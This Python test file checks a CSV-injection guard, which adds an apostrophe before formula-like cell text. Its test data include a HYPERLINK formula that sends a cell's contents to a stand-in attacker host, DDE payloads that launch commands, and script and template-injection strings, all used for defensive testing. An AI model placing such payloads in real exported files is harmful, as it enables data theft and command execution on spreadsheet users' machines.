"""The CSV injection guard (OWASP "CSV Injection"): what a spreadsheet user would otherwise see run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trigger.domain.csv_safety import FORMULA_STARTS, safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Patrol the park",
        " =1+1",
        "1=1",
        "a-b",
        "email@example.org",
        "'already quoted",
        'He said "stop", twice',
        "line one\nline two",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "{% raw %}",
        "\u202eevil.exe\u202c",
        "\u200f\u061c",
        "\x07\x08\x1b[31m\x7f",
        "\n=1+1",
        "ＳＵＭ",
        "W" * 5000,
    ],
)
def test_everything_else_is_written_verbatim(text):
    assert safe_cell(text) == text


def test_values_that_are_not_text():
    assert safe_row([None, True, False, 3, date(2026, 11, 25), -1]) == ["", "Yes", "No", "3", "2026-11-25", "'-1"]


@given(st.text(st.characters(codec="utf-8", exclude_characters="\x00")))
@settings(max_examples=200, deadline=None)
def test_a_cell_survives_the_csv_round_trip_exactly_as_guarded(text):
    """Whatever the text, a spreadsheet reading the file gets it back verbatim, behind `'` only when guarded."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow(["before", safe_cell(text), "after"])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == ["before", ("'" + text) if text.startswith(FORMULA_STARTS) else text, "after"]
